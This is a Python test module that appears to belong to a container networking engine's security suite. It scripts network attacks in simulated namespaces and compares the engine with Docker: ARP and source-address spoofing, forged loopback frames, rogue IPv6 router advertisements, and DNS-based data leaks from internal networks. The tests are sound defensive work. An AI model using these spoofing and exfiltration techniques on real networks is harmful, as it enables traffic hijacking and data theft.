"""What attackers try, engine by engine the same. Each returns what got through: nothing, if the attack failed.

They are tried against weft (test_attacks.py), once more with weft's rules taken away, so that it is known that they can
succeed, and against Docker (comparison.py).
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence

from tests.audits import question
from tests.enter import inside, network
from tests.security.scene import (
    ADDRESSES,
    FRIEND4,
    FRIEND6,
    GATEWAYS,
    INNER,
    LOCAL,
    LOCAL2,
    LOCAL6,
    OPEN,
    SHUT,
    Scene,
)
from tests.system.forgeries import Station, arp, frame, udp6
from tests.system.frames import (
    ALL_NODES_MAC,
    ETH_P_ARP,
    ETH_P_IP,
    ETH_P_IPV6,
    put_on_wire,
    router_advertisement,
    syn4,
    udp4,
)
from tests.system.people import HOST4, HOST6, OUTSIDE4, OUTSIDE6, REFUSED, SILENCE, Question, ask_at_once
from tests.waiting import PACE

OWN, HOSTS_EAR = 7777, 7778
"""Ports of the host's own services: on its loopback, and on every address."""

SECRET = 7779
"""A port where an accomplice listens."""

BOTH = ("tcp", "udp")


def answers(scene: Scene, who: str, addresses: Sequence[str], ports: Sequence[int]) -> list[str]:
    """Where somebody had an answer from a program, as PROTO/ADDRESS:PORT."""
    asked = [
        Question(scene.paths[who], address, port, proto) for address in addresses for port in ports for proto in BOTH
    ]
    said = ask_at_once(scene.host, *asked)
    return [
        f"{question.proto}/{question.address}:{question.port}"
        for question, answer in zip(asked, said, strict=True)
        if answer not in (SILENCE, REFUSED)
    ]


# Who has a route


def lan_to_unpublished_ports(scene: Scene) -> list[str]:
    """A machine on the host's wire, with a route to the containers' subnet, asks ports that are not published."""
    return answers(scene, "outside", ADDRESSES["web"], [SHUT])


def lan_to_published_ports_at_own_address(scene: Scene) -> list[str]:
    """The same asks for a published port, but at the container's own address, past whatever guards the host's."""
    return answers(scene, "outside", ADDRESSES["web"], [OPEN])


def network_to_network(scene: Scene) -> list[str]:
    """A container of another network asks, over its own gateway and over the host's address on another wire."""
    return answers(scene, "stranger", ADDRESSES["web"], [OPEN, SHUT])


def out_of_an_internal_network(scene: Scene) -> list[str]:
    """A container on an internal network makes itself a default route; it need not hear an answer to tell a secret."""
    there = {"outside": (OUTSIDE4, OUTSIDE6), "web": ADDRESSES["web"], "stranger": ADDRESSES["stranger"]}
    heard = [each for whom, addresses in there.items() for each in _heard_there(scene, "inside", whom, addresses)]
    return heard + answers(scene, "inside", [address for pair in there.values() for address in pair], [OPEN])


def _heard_there(scene: Scene, who: str, whom: str, addresses: Sequence[str]) -> list[str]:
    """At which addresses somebody hears a datagram, whether he can answer or not."""

    def attack() -> list[str]:
        with network(scene.paths[whom]):
            ear = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        with ear:
            ear.bind(("::", SECRET))
            ear.settimeout(0.3 * PACE)
            with network(scene.paths[who]):
                for address in addresses:
                    family = socket.AF_INET6 if ":" in address else socket.AF_INET
                    with socket.socket(family, socket.SOCK_DGRAM) as asker:
                        asker.sendto(address.encode(), (address, SECRET))
            heard = []
            with contextlib.suppress(TimeoutError):
                while True:
                    heard.append(f"udp/{ear.recv(100).decode()}:{SECRET}")
            return heard

    return inside(scene.host, attack)


def into_an_internal_network(scene: Scene) -> list[str]:
    """From the wire and from another network, with routes."""
    found = [answers(scene, who, ADDRESSES["inside"], [OPEN]) for who in ("outside", "stranger")]
    return [each for part in found for each in part]


def through_the_host(scene: Scene) -> list[str]:
    """A machine on one wire uses the host, which routed nothing before, as its router to another wire."""
    there = answers(scene, "outside", [FRIEND4, FRIEND6], [OPEN])
    return there + answers(scene, "friend", [OUTSIDE4, OUTSIDE6], [OPEN])


# The host's loopback


def loopback_from_the_wire(scene: Scene) -> list[str]:
    """A machine on the wire sends frames for 127.0.0.0/8 and ::1 to the host's MAC."""
    return _at_loopback(scene, "outside", (OUTSIDE4, OUTSIDE6), [HOST4, HOST6])


def loopback_from_a_lax_wire(scene: Scene) -> list[str]:
    """The same, where some other program has let the wire speak to loopback addresses, as proxies do."""
    link = scene.link_to("outside")
    scene.host.run(f"sysctl -qw net.ipv4.conf.{link}.route_localnet=1")
    try:
        return loopback_from_the_wire(scene)
    finally:
        scene.host.run(f"sysctl -qw net.ipv4.conf.{link}.route_localnet=0")


def loopback_from_a_neighbour(scene: Scene) -> list[str]:
    """A container on the same network does, and tries every address that the host has for it."""
    return _at_loopback(scene, "beside", ADDRESSES["beside"], [HOST4, HOST6, *GATEWAYS["beside"]])


def loopback_from_another_network(scene: Scene) -> list[str]:
    return _at_loopback(scene, "stranger", ADDRESSES["stranger"], [HOST4, HOST6, *GATEWAYS["stranger"]])


def _at_loopback(scene: Scene, who: str, own: Sequence[str], host_addresses: Sequence[str]) -> list[str]:
    """What was heard, of frames to the host's loopback and of connections to its other addresses, and where."""
    host_mac = scene.mac_of(scene.link_to(who))
    ports = (OWN, LOCAL, LOCAL2, LOCAL6)

    def attack() -> list[str]:
        with contextlib.ExitStack() as stack:
            ears = _loopback_ears(scene, stack)
            stack.enter_context(network(scene.paths[who]))
            for port in ports:
                for target in ("127.0.0.1", "127.0.0.2"):
                    put_on_wire("eth0", ETH_P_IP, host_mac, udp4(own[0], target, port))
                    put_on_wire("eth0", ETH_P_IP, host_mac, syn4(own[0], target, port))
                put_on_wire("eth0", ETH_P_IPV6, host_mac, udp6(own[1], "::1", 4444, port))
                for address in host_addresses:
                    _knock(stack, address, port)
            time.sleep(0.3 * PACE)
            return sorted(name for name, ear in ears if _heard(ear))

    return inside(scene.host, attack)


def _loopback_ears(scene: Scene, stack: contextlib.ExitStack) -> list[tuple[str, socket.socket]]:
    wanted = [("the published port", scene.paths["web"], "::", INNER)]
    wanted += [
        ("the host's own service", "/proc/self/ns/net", address, OWN) for address in ("127.0.0.1", "127.0.0.2", "::1")
    ]
    ears = []
    for name, where, address, port in wanted:
        with network(where):
            for proto, kind in (("udp", socket.SOCK_DGRAM), ("tcp", socket.SOCK_STREAM)):
                ear = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
                stack.enter_context(ear).bind((address, port))
                if kind == socket.SOCK_STREAM:
                    ear.listen(16)
                ear.setblocking(False)
                ears.append((f"{name} ({proto} {address})", ear))
    return ears


def _knock(stack: contextlib.ExitStack, address: str, port: int) -> None:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        asker = stack.enter_context(socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind))
        asker.setblocking(False)
        with contextlib.suppress(OSError):
            asker.connect((address, port))
            asker.send(b"?")


def _heard(ear: socket.socket) -> bool:
    """A datagram, or a connection that was completed. A handshake by hand is not: a SYN that was answered counts."""
    try:
        ear.recv(100) if ear.type == socket.SOCK_DGRAM else ear.accept()[0].close()
    except BlockingIOError:
        return False
    return True


# Who is beside them on the wire


def borrowed_address(scene: Scene) -> list[str]:
    """A container sends under its neighbour's address, and tells the host that it is the neighbour."""
    victim4, victim6 = ADDRESSES["web"]
    link = scene.link_to("beside")
    host_mac, own_mac = scene.mac_of(link), scene.run("beside", "cat /sys/class/net/eth0/address").strip()
    gateway = Station(host_mac.hex(":"), *GATEWAYS["beside"])

    def attack() -> list[str]:
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as ear:
            ear.bind(("::", HOSTS_EAR))
            ear.settimeout(0.3 * PACE)
            with network(scene.paths["beside"]):
                put_on_wire("eth0", ETH_P_IP, host_mac, udp4(victim4, gateway.ip, HOSTS_EAR))
                put_on_wire("eth0", ETH_P_IPV6, host_mac, udp6(victim6, gateway.ip6, 4444, HOSTS_EAR))
                with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as wire:
                    wire.bind(("eth0", 0))
                    wire.send(frame(gateway.mac, own_mac, ETH_P_ARP, arp(own_mac, victim4, gateway)))
            return sorted(f"sent as {source}" for source in _sources(ear))

    # The host must know somebody at that address, or it would not listen to whom it has not asked.
    scene.run("host", f"ping -c1 -W1 -q {victim4}", check=False)
    got = inside(scene.host, attack)
    if own_mac in scene.host.run(f"ip neigh show {victim4} dev {link}").stdout:
        got.append(f"the host takes it for {victim4}")
        scene.host.run(f"ip neigh flush to {victim4} dev {link}", check=False)
    return got


def _sources(ear: socket.socket) -> Iterator[str]:
    with contextlib.suppress(TimeoutError):
        while True:
            yield str(ear.recvfrom(100)[1][0]).removeprefix("::ffff:")


BAD_PREFIX = "fd00:bad"


def rogue_router(scene: Scene, believers: Sequence[str] = ("plain", "web", "host")) -> list[str]:
    """A container advertises itself as an IPv6 router, to neighbours with IPv6 and without, and to the host."""
    for liar in ("liar", "beside"):
        _advertise(scene, liar)
    time.sleep(0.5 * PACE)
    return [
        f"{who} has {what}"
        for who in believers
        for what in ("an address", "a route")
        if BAD_PREFIX in scene.run(who, f"ip -6 {'address' if what == 'an address' else 'route'} show")
        or (what == "a route" and who != "host" and "via fe80::bad" in scene.run(who, "ip -6 route show"))
    ]


def _advertise(scene: Scene, liar: str) -> None:
    def send() -> None:
        with network(scene.paths[liar]):
            for _ in range(3):
                put_on_wire("eth0", ETH_P_IPV6, ALL_NODES_MAC, router_advertisement(f"{BAD_PREFIX}::"))

    inside(scene.host, send)


# Names


@contextlib.contextmanager
def overheard(scene: Scene) -> Iterator[list[str]]:
    """Names that are asked of the host's name server, which is outside; there once this ends."""
    asked: list[str] = []
    command = [sys.executable, "-P", "-m", "tests.security.overhearing", OUTSIDE4]
    with scene.outside.popen(
        command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=scene.engine.environment
    ) as program:
        assert program.stdin is not None
        assert program.stdout is not None
        assert program.stdout.readline() == "ready\n"
        yield asked
        time.sleep(0.2 * PACE)
        program.stdin.close()
        asked += program.stdout.read().split()


def names_out_of_an_internal_network(scene: Scene) -> list[str]:
    """A container on an internal network tells the world something by asking for names (CVE-2024-29018)."""
    with overheard(scene) as asked:
        look_up(scene, "inside", "secret.example", 1)
    return asked


def local_names_to_the_world(scene: Scene) -> list[str]:
    """A neighbour's name is asked for by types that no neighbour has: who serves the outside shall not learn it."""
    with overheard(scene) as asked:
        for kind in TYPES.values():
            look_up(scene, "beside", "web", kind)
    return [f"`{name}` is asked of a server outside" for name in asked]


TYPES = {"TXT": 16, "MX": 15, "SRV": 33, "HTTPS": 65, "ANY": 255, "CAA": 257}


def look_up(scene: Scene, who: str, name: str, kind: int) -> None:
    def look() -> None:
        with network(scene.paths[who]), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.5 * PACE)
            client.sendto(question(name, qtype=kind), ("127.0.0.11", 53))
            with contextlib.suppress(OSError):
                client.recv(2000)

    inside(scene.host, look)
